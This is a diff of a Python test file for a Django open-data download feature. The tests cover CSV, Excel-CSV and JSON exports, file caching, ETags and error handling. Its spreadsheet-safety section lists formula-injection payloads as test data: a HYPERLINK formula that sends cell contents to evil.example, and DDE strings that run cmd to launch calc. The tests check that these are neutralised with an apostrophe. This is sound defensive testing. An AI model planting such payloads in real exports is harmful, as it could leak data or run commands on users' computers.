@@ -1,16 +1,28 @@
-"""Open data: the documentation page and the streamed CSV and JSON downloads."""
+"""Open data: the documentation page and the CSV and JSON downloads, whole files or an error."""
 
 import csv
+import dataclasses
 import datetime
 import io
 import json
 import re
+from decimal import Decimal
+from html import unescape
+from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
+from django.conf import settings
+from django.core.files.base import ContentFile
+from django.core.files.storage import FileSystemStorage, default_storage
+from django.db import OperationalError
 from django.utils import timezone
+from django.utils.translation import gettext
 
 from activities.models import ActivityStatus, Responsible
-from followups.opendata import DATASETS
+from config import public_cache
+from followups import opendata
+from followups.opendata import DATASETS, _csv_value
 from promises.models import PeriodState, Theme
 from tests import factories
 
@@ -100,18 +112,31 @@ SECRETS = (
 )
 
 
-def download(client, url: str):
-    response = client.get(url)
+@pytest.fixture(autouse=True)
+def _media_root(settings, tmp_path):
+    """Built files are kept in a folder of the test's own."""
+    settings.MEDIA_ROOT = str(tmp_path / "media")
+
+
+def download(client, url: str, **headers):
+    """A whole download: answered 200 with a Content-Length that is the length of the body."""
+    response = client.get(url, **headers)
     assert response.status_code == 200, url
     assert response.streaming is True
-    return response, b"".join(response.streaming_content)
+    body = b"".join(response.streaming_content)
+    assert int(response["Content-Length"]) == len(body), url
+    return response, body
 
 
 def rows(fmt: str, body: bytes) -> tuple[list[str], list[dict]]:
     """The column names and the rows of a download, all values as the format writes them."""
     if fmt == "csv":
+        assert not body.startswith(b"\xef\xbb\xbf")  # standard CSV: no BOM
+        reader = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
+        return list(reader.fieldnames), list(reader)
+    if fmt == "excel":
         assert body.startswith(b"\xef\xbb\xbf")  # the BOM, for Excel
-        reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))
+        reader = csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
         return list(reader.fieldnames), list(reader)
     assert not body.startswith(b"\xef\xbb\xbf")
     data = json.loads(body.decode("utf-8"))
@@ -430,3 +455,342 @@ def test_average_targets_export_the_average_so_far(client, fmt, expected):
     assert row["average_so_far"] == expected
     assert row["current_span_start"] == ("" if fmt == "csv" else None)
     assert row["pace_status"] == "behind"
+
+
+# Spreadsheet safety and the CSV for Excel
+
+# Text that Excel, LibreOffice or Google Sheets would run as a formula (OWASP's examples).
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTabb=1+1",
+    "\r=1+1",
+)
+CSV_FORMS = {"csv": ".csv", "excel": "-excel.csv"}
+
+
+@pytest.fixture
+def formulas():
+    """A signed period whose texts start like formulas, as the editor accepts them."""
+    today = timezone.localdate()
+    period = factories.period(
+        "tranas",
+        start=today - datetime.timedelta(days=30),
+        end=today + datetime.timedelta(days=300),
+        slug="formler",
+        area_name=FORMULAS[5],
+    )
+    theme = Theme.objects.create(slug="formel", name="=1+1")
+    promise = factories.promise(period, title=FORMULAS[0], description=FORMULAS[1])
+    promise.themes.add(theme)
+    activity = factories.activity(
+        period,
+        title=FORMULAS[2],
+        description=FORMULAS[3],
+        target=("at_least", 20, FORMULAS[4], "period"),
+    )
+    activity.promises.add(promise)
+    factories.log(activity, today, 3)
+    return SimpleNamespace(period=period, promise=promise, activity=activity)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("form", CSV_FORMS)
+def test_promise_texts_that_start_like_formulas_get_an_apostrophe_in_csv(client, formulas, form):
+    _response, body = download(client, f"/oppna-data/loften{CSV_FORMS[form]}")
+    (row,) = rows(form, body)[1]
+    assert row["title"] == "'" + FORMULAS[0]
+    assert row["description"] == "'" + FORMULAS[1]
+    assert row["area_name"] == "'" + FORMULAS[5]
+    assert row["themes"] == "'=1+1"
+    # Numbers stay numbers.
+    assert row["promise_id"] == str(formulas.promise.pk)
+    assert row["period_id"] == str(formulas.period.pk)
+    assert row["position"] == "1"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("form", CSV_FORMS)
+def test_activity_texts_that_start_like_formulas_get_an_apostrophe_in_csv(client, formulas, form):
+    _response, body = download(client, f"/oppna-data/aktiviteter{CSV_FORMS[form]}")
+    (row,) = rows(form, body)[1]
+    assert row["title"] == "'" + FORMULAS[2]
+    assert row["description"] == "'" + FORMULAS[3]
+    assert row["target_unit"] == "'" + FORMULAS[4]
+    assert row["activity_id"] == str(formulas.activity.pk)
+    assert (row["target_value"], row["done_total"]) == ("20", "3")
+    assert row["current_span_start"] == formulas.period.start_date.isoformat()
+    # No cell of the file starts like a formula.
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+@pytest.mark.django_db
+def test_json_keeps_texts_that_start_like_formulas_unchanged(client, formulas):
+    _r, body = download(client, "/oppna-data/loften.json")
+    (promise,) = json.loads(body)
+    assert (promise["title"], promise["description"]) == (FORMULAS[0], FORMULAS[1])
+    assert (promise["area_name"], promise["themes"]) == (FORMULAS[5], ["=1+1"])
+    _r, body = download(client, "/oppna-data/aktiviteter.json")
+    (activity,) = json.loads(body)
+    assert (activity["title"], activity["description"]) == (FORMULAS[2], FORMULAS[3])
+    assert activity["target_unit"] == FORMULAS[4]
+
+
+def test_csv_cells_change_text_only_not_numbers_or_dates():
+    assert _csv_value("-2+3") == "'-2+3"
+    assert _csv_value("Trafik") == "Trafik"
+    assert _csv_value(-3) == "-3"
+    assert _csv_value(Decimal("-0.75")) == "-0.75"
+    assert _csv_value(D(2026, 1, 1)) == "2026-01-01"
+    assert _csv_value(["=a", "b"]) == "'=a; b"
+    assert _csv_value([3, 4]) == "3; 4"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("dataset", COLUMNS)
+def test_the_excel_form_has_the_standard_forms_rows_with_semicolons_and_a_bom(
+    client, known, formulas, dataset
+):
+    _r, standard = download(client, f"/oppna-data/{dataset}.csv")
+    response, excel = download(client, f"/oppna-data/{dataset}-excel.csv")
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="medborgarloften-{dataset}-excel.csv"'
+    )
+    assert excel.startswith(b"\xef\xbb\xbf" + ";".join(COLUMNS[dataset]).encode() + b"\r\n")
+    assert standard.startswith(",".join(COLUMNS[dataset]).encode() + b"\r\n")
+    assert excel.endswith(b"\r\n") and standard.endswith(b"\r\n")
+    assert rows("excel", excel) == rows("csv", standard)
+
+
+@pytest.mark.django_db
+def test_the_excel_form_of_one_municipality(client, known):
+    response, body = download(client, "/kommuner/tranas/oppna-data/aktiviteter-excel.csv")
+    assert response["Content-Disposition"] == (
+        'attachment; filename="medborgarloften-tranas-aktiviteter-excel.csv"'
+    )
+    _names, data = rows("excel", body)
+    assert {row["municipality_name"] for row in data} == {"Tranås"}
+    assert {row["title"] for row in data} == {
+        "Trafikkontroller",
+        "Trygghetsvandring",
+        "Nattvandringar",
+    }
+
+    _r, body = download(client, "/kommuner/tranas/oppna-data/loften-excel.csv")
+    assert "Öka tryggheten på Storgatan i Tranås".encode() in body
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/oppna-data/okand-excel.csv",
+        "/oppna-data/aktiviteter.excel",
+        "/oppna-data/aktiviteter-excel.json",
+        "/kommuner/finns-inte/oppna-data/loften-excel.csv",
+        "/kommuner/vetlanda/oppna-data/loften.excel",
+    ],
+)
+def test_unknown_excel_downloads_are_404(client, url):
+    assert client.get(url).status_code == 404
+
+
+@pytest.mark.django_db
+def test_open_data_page_offers_and_explains_both_csv_forms(client):
+    html = client.get("/oppna-data/", {"kommun": "vetlanda"}).content.decode()
+    for dataset in COLUMNS:
+        assert f'href="/oppna-data/{dataset}-excel.csv"' in html
+        assert f'href="/kommuner/vetlanda/oppna-data/{dataset}-excel.csv"' in html
+        assert f'href="/oppna-data/{dataset}.csv"' in html
+    assert gettext("CSV for Excel") in html
+    assert "RFC 4180" in html and "BOM" in html
+    # Which cells get an apostrophe, and why.
+    text = unescape(html)
+    assert "=, +, -, @" in text
+    assert "apostrof (')" in text
+    assert "formel" in text
+
+
+# Whole files, kept until the public data change
+
+
+def kept_files() -> list[str]:
+    """The files kept in the storage, as paths under exports/."""
+    root = Path(settings.MEDIA_ROOT) / opendata.EXPORTS_FOLDER
+    if not root.exists():
+        return []
+    return sorted(str(path.relative_to(root)) for path in root.rglob("*") if path.is_file())
+
+
+@pytest.fixture
+def builds(monkeypatch):
+    """The activities dataset, recording each time its rows are built from the database."""
+    calls = []
+    dataset = opendata.DATASETS_BY_SLUG["aktiviteter"]
+
+    def counted_rows(*args):
+        calls.append(args)
+        return dataset.rows(*args)
+
+    counted = dataclasses.replace(dataset, rows=counted_rows)
+    monkeypatch.setitem(opendata.DATASETS_BY_SLUG, "aktiviteter", counted)
+    return calls
+
+
+def cache_control(response) -> set[str]:
+    return {part.strip() for part in response["Cache-Control"].split(",")}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("form", ["csv", "excel", "json"])
+def test_a_file_of_many_chunks_and_larger_than_memory_arrives_whole(client, monkeypatch, form):
+    # Small chunks and a small memory limit: many queries and writes, then a file on disk.
+    monkeypatch.setattr(opendata, "CHUNK_SIZE", 4)
+    monkeypatch.setattr(opendata, "ROWS_PER_WRITE", 3)
+    monkeypatch.setattr(opendata, "SPOOL_MAX_BYTES", 1024)
+    build_activities("vetlanda", 25, "stor")
+    suffix = {"csv": ".csv", "excel": "-excel.csv", "json": ".json"}[form]
+    _response, body = download(client, f"/oppna-data/aktiviteter{suffix}")  # checks the length
+    assert len(body) > 4 * 1024
+    names, data = rows(form, body)
+    assert names == COLUMNS["aktiviteter"]
+    assert sorted(row["title"] for row in data) == sorted(f"Aktivitet {i}" for i in range(25))
+    assert {str(row["done_total"]) for row in data} == {"3"}
+    # Kept whole too: the next download, from the storage, is the same file.
+    assert download(client, f"/oppna-data/aktiviteter{suffix}")[1] == body
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(("prefix", "queries"), [("", 0), ("/kommuner/tranas", 1)])
+def test_a_second_download_is_served_from_storage_without_building_again(
+    client, known, builds, django_assert_num_queries, prefix, queries
+):
+    url = f"{prefix}/oppna-data/aktiviteter.json"
+    first, body = download(client, url)
+    assert len(builds) == 1
+    assert len(kept_files()) == 1
+    # No query for the data (one finds the municipality), and the rows are not built again.
+    with django_assert_num_queries(queries):
+        second, again = download(client, url)
+    assert len(builds) == 1
+    assert again == body
+    assert len(json.loads(again)) == 3
+    assert second["ETag"] == first["ETag"]
+    for response in (first, second):
+        assert response["Content-Type"] == "application/json"
+        assert response["Content-Disposition"].startswith('attachment; filename="medborgarloften-')
+        assert cache_control(response) == {"public", "max-age=0", "must-revalidate"}
+
+
+@pytest.mark.django_db
+def test_after_a_write_the_next_download_has_the_new_figure(client, known, builds):
+    def controls_done() -> tuple[int, str]:
+        response, body = download(client, "/oppna-data/aktiviteter.json")
+        (row,) = [row for row in json.loads(body) if row["title"] == "Trafikkontroller"]
+        return row["done_total"], response["ETag"]
+
+    done, etag = controls_done()
+    assert done == 5
+    assert controls_done() == (5, etag)  # from storage
+    factories.log(known["controls"], D(2024, 6, 2), 4)
+    done, new_etag = controls_done()
+    assert done == 9
+    assert new_etag != etag
+    assert len(builds) == 2
+    # The file of the old version was deleted when the new one was kept.
+    (kept,) = kept_files()
+    assert kept.endswith("-medborgarloften-aktiviteter.json")
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_database_error_while_building_gives_the_503_page_never_a_partial_file(
+    client, known, monkeypatch, fmt
+):
+    dataset = opendata.DATASETS_BY_SLUG["aktiviteter"]
+
+    def rows_then_outage(*args):
+        produced = dataset.rows(*args)
+        yield next(produced)
+        yield next(produced)
+        raise OperationalError("server closed the connection unexpectedly")
+
+    broken = dataclasses.replace(dataset, rows=rows_then_outage)
+    monkeypatch.setitem(opendata.DATASETS_BY_SLUG, "aktiviteter", broken)
+    monkeypatch.setattr(opendata, "ROWS_PER_WRITE", 1)  # rows were written before the error
+    response = client.get(f"/oppna-data/aktiviteter.{fmt}")
+    assert response.status_code == 503
+    assert response.streaming is False
+    assert response["Cache-Control"] == "no-store"
+    assert "ETag" not in response
+    html = response.content.decode()
+    assert "Tjänsten är tillfälligt otillgänglig" in html
+    assert "activity_id" not in html and "Trafikkontroller" not in html
+    assert kept_files() == []
+    # Once the database answers, the download is whole.
+    monkeypatch.setitem(opendata.DATASETS_BY_SLUG, "aktiviteter", dataset)
+    assert len(rows(fmt, download(client, f"/oppna-data/aktiviteter.{fmt}")[1])[1]) == 3
+
+
+@pytest.mark.django_db
+def test_if_none_match_with_the_etag_gets_304_without_building(
+    client, known, builds, django_assert_num_queries
+):
+    url = "/oppna-data/aktiviteter.csv"
+    first, _body = download(client, url)
+    etag = first["ETag"]
+    with django_assert_num_queries(0):
+        response = client.get(url, HTTP_IF_NONE_MATCH=etag)
+    assert response.status_code == 304
+    assert response.content == b""
+    assert response["ETag"] == etag
+    assert cache_control(response) == {"public", "max-age=0", "must-revalidate"}
+    assert len(builds) == 1
+    # Another ETag (of an older version, say) gets the file.
+    _response, body = download(client, url, HTTP_IF_NONE_MATCH='"older"')
+    assert len(rows("csv", body)[1]) == 3
+
+
+@pytest.mark.django_db
+def test_a_file_another_worker_is_still_writing_is_never_served(client, known):
+    # The file of this version, half written by another worker: there, but not recorded whole.
+    export = opendata.Export(
+        opendata.DATASETS_BY_SLUG["aktiviteter"],
+        opendata.FORMATS["json"],
+        None,
+        "http://testserver",
+        timezone.localdate(),
+    )
+    name = export.storage_name(public_cache.current_version())
+    default_storage.save(name, ContentFile(b'[\n{"activity_id": 1, "peri'))
+    for _ in range(2):  # built, then from storage
+        _response, body = download(client, "/oppna-data/aktiviteter.json")
+        assert len(json.loads(body)) == 3
+    assert len(kept_files()) == 2  # the whole file was saved under another name
+
+
+@pytest.mark.django_db
+def test_without_the_cache_the_file_is_built_and_not_kept(client, known, builds, monkeypatch):
+    monkeypatch.setattr(public_cache, "current_version", lambda: None)
+    for _ in range(2):
+        response, body = download(client, "/oppna-data/aktiviteter.json")
+        assert len(json.loads(body)) == 3
+        assert "ETag" not in response
+    assert len(builds) == 2
+    assert kept_files() == []
+
+
+@pytest.mark.django_db
+def test_a_storage_failure_still_serves_the_whole_file(client, known, builds, monkeypatch):
+    def disk_full(*args, **kwargs):
+        raise OSError("No space left on device")
+
+    monkeypatch.setattr(FileSystemStorage, "save", disk_full)
+    for _ in range(2):
+        _response, body = download(client, "/oppna-data/aktiviteter-excel.csv")
+        assert len(rows("excel", body)[1]) == 3
+    assert len(builds) == 2
